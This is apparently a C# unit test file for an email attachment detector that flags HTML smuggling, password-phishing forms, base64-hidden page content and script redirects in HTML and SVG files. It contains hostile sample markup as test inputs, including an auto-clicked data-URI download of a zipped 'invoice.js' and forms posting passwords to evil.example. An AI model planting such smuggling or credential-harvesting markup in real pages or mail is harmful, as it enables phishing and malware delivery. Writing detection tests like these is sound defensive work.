using System.Text;
using Deeplia.Guardian.Observe.Harm.Attachment;
using Deeplia.Tests.Mail.Attachments.Making;

namespace Deeplia.Tests.Guardian.Observe.Harm.Attachment;

public sealed class WebFileDetectorTests
{
    private static readonly WebFileDetector Detector = new();
    private static readonly string Packed = Convert.ToBase64String(OfficeMaker.Zip(("invoice.js", [.. FileMaker.Script, .. new byte[600]])));

    [Fact]
    [Gives("harm.attachment.html-smuggling")]
    public void A_page_that_builds_a_file_is_found() => Assert.Equal(["harm.attachment.html-smuggling"], Of(
        $"<html><p>{new string('n', 500)}</p><a id=a download='a.zip' href='data:application/zip;base64,{Packed}'></a><script>a.click();new Blob([])</script></html>"));

    [Fact]
    [Gives("harm.attachment.html-form")]
    public void A_form_for_a_password_is_found() => Assert.Equal(["harm.attachment.html-form"], Of(
        "<html><form action='https://evil.example/p'><input type=password></form></html>"));

    [Fact]
    [Spares("harm.attachment.html-form")]
    public void A_sealed_letter_of_the_sender_s_house_is_spared() => Assert.Empty(Of(
        "<html><form action='https://secure.sender.example/p'><input type=password></form></html>"));

    [Fact]
    [Gives("harm.attachment.html-hidden")]
    public void A_page_that_writes_what_it_hides_is_found() => Assert.Contains("harm.attachment.html-hidden", Of(
        $"<script>document.write(atob('{Convert.ToBase64String(Encoding.UTF8.GetBytes("<html><form><input name=p>" + new string(' ', 300)))}'))</script>"));

    [Fact]
    [Gives("harm.attachment.html-redirect")]
    public void A_page_that_only_leads_on_is_found() =>
        Assert.Equal(["harm.attachment.html-redirect"], Of("<html><script>location.href='https://evil.example/x'</script></html>"));

    [Fact]
    [Spares("harm.attachment.html-redirect")]
    public void A_ticket_that_leads_to_its_sender_is_spared() =>
        Assert.Empty(Of("<html><meta http-equiv=refresh content='0;url=https://www.sender.example/ticket'></html>"));

    [Fact]
    [Gives("harm.attachment.svg-script")]
    public void A_drawing_that_opens_pages_is_found() => Assert.Contains("harm.attachment.svg-script", Of(
        "<svg xmlns='http://www.w3.org/2000/svg'><script>location.href='https://evil.example'</script></svg>", "play.svg"));

    [Fact]
    [Spares("harm.attachment.html-smuggling", "harm.attachment.html-hidden", "harm.attachment.svg-script")]
    public void Honest_pages_and_drawings_are_spared() => Assert.Empty((string[])
    [
        .. Of("<html><table><tr><td>Total</td><td>120</td></tr></table><script>window.print()</script></html>"),
        .. Of("<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='x'</script></svg>", "chart.svg"),
        .. Of($"<html><img src='data:image/png;base64,{Convert.ToBase64String([0x89, (byte)'P', (byte)'N', (byte)'G', .. new byte[900]])}'></html>"),
    ]);

    private static string[] Of(string page, string name = "invoice.html") => new Letter { File = name, FileBytes = Encoding.UTF8.GetBytes(page) }.Ids(Detector);
}
